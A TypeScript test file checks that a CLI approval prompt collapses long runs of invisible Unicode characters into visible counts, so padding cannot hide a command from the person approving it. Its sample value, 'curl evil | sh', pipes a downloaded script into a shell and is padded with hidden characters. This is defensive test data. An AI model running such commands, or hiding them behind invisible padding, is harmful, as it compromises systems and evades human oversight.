import { describe, expect, it } from "vitest";
import {
  collapseHiddenRuns,
  isHiddenCharacter,
} from "../../../src/cli/terminal/render/hidden-characters.js";
import { escapeForTerminal } from "../../../src/cli/terminal/render/terminal-text.js";

/** What the approval prompt does with a value: count the runs, then escape what is left. */
const shown = (text: string): string => escapeForTerminal(collapseHiddenRuns(text));

describe("collapseHiddenRuns", () => {
  // Each renders blank or not at all: 4000 of them would push a command's start off any screen.
  it.each([
    ["no-break space", "\u00a0", "U+00A0"],
    ["soft hyphen", "\u00ad", "U+00AD"],
    ["ogham space mark", "\u1680", "U+1680"],
    ["Hangul choseong filler", "\u115f", "U+115F"],
    ["Hangul jungseong filler", "\u1160", "U+1160"],
    ["Khmer inherent vowel", "\u17b4", "U+17B4"],
    ["Mongolian vowel separator", "\u180e", "U+180E"],
    ["en quad", "\u2000", "U+2000"],
    ["em space", "\u2003", "U+2003"],
    ["hair space", "\u200a", "U+200A"],
    ["zero-width space", "\u200b", "U+200B"],
    ["right-to-left mark", "\u200f", "U+200F"],
    ["right-to-left override", "\u202e", "U+202E"],
    ["narrow no-break space", "\u202f", "U+202F"],
    ["medium mathematical space", "\u205f", "U+205F"],
    ["invisible times", "\u2062", "U+2062"],
    ["first strong isolate", "\u2068", "U+2068"],
    ["Braille pattern blank", "\u2800", "U+2800"],
    ["ideographic space", "\u3000", "U+3000"],
    ["Hangul filler", "\u3164", "U+3164"],
    ["variation selector 16", "\ufe0f", "U+FE0F"],
    ["byte order mark", "\ufeff", "U+FEFF"],
    ["halfwidth Hangul filler", "\uffa0", "U+FFA0"],
    ["object replacement character", "\ufffc", "U+FFFC"],
    ["musical symbol begin beam", "\u{1d173}", "U+1D173"],
    ["tag space", "\u{e0020}", "U+E0020"],
    ["variation selector 17", "\u{e0100}", "U+E0100"],
    ["private use", "\ue000", "U+E000"],
    ["unassigned", "\u{2fffd}", "U+2FFFD"],
    ["escape", "\u001b", "U+001B"],
    ["line separator", "\u2028", "U+2028"],
  ])("counts a run of %s", (_name, char, code) => {
    expect(shown(`curl evil | sh;${char.repeat(4000)}npm test`)).toBe(
      `curl evil | sh;⟨4000 × ${code}⟩npm test`,
    );
  });

  it("counts ordinary padding the way the README shows it", () => {
    expect(collapseHiddenRuns(`a${" ".repeat(4100)}b${"\n".repeat(40)}c    d`)).toBe(
      "a⟨4100 spaces⟩b⟨40 newlines⟩c    d",
    );
    expect(collapseHiddenRuns(`#${" ".repeat(4100)}\nx`)).toBe("#⟨4100 spaces⟩\nx");
  });

  it("counts alternating padding as one run, naming the first kinds", () => {
    const padding = " \t\u00a0\u3000".repeat(1000);
    expect(collapseHiddenRuns(`a${padding}b`)).toBe(
      "a⟨4000 blank: 1000 spaces, 1000 tabs, 1000 × U+00A0, …⟩b",
    );
    expect(collapseHiddenRuns(`a${" \t".repeat(20)}b`)).toBe("a⟨40 blank: 20 spaces, 20 tabs⟩b");
  });

  it("leaves indentation, short gaps and a few escaped characters as they are", () => {
    expect(collapseHiddenRuns("if x:\n        return 1\n")).toBe("if x:\n        return 1\n");
    expect(shown("a\u00a0b\u200b\u200bc")).toBe("a\\u{00a0}b\\u{200b}\\u{200b}c");
  });

  it("counts a smear of combining marks, keeps accents", () => {
    expect(collapseHiddenRuns(`x${"\u0301".repeat(200)}y`)).toBe("x⟨200 combining marks⟩y");
    expect(collapseHiddenRuns("cafe\u0301 ti\u1ebfng Vi\u1ec7t")).toBe(
      "cafe\u0301 ti\u1ebfng Vi\u1ec7t",
    );
  });

  it("leaves no run of hidden characters anywhere in Unicode on screen", () => {
    const hidden: string[] = [];
    // The whole BMP, and every 61st code point above it (the astral planes are mostly unassigned).
    for (let code = 0; code <= 0x10ffff; code += code < 0x10000 ? 1 : 61) {
      const char = String.fromCodePoint(code);
      if (isHiddenCharacter(char)) hidden.push(char);
    }
    // Every kind, padded alone: what reaches the screen is one short count.
    const leaks = hidden.filter((char) => {
      const screen = shown(`<${char.repeat(100)}>`);
      return (
        screen.length > 30 || Array.from(screen).some((c) => c !== " " && isHiddenCharacter(c))
      );
    });
    expect(leaks).toEqual([]);
    expect(hidden.length).toBeGreaterThan(15_000);
  });
});
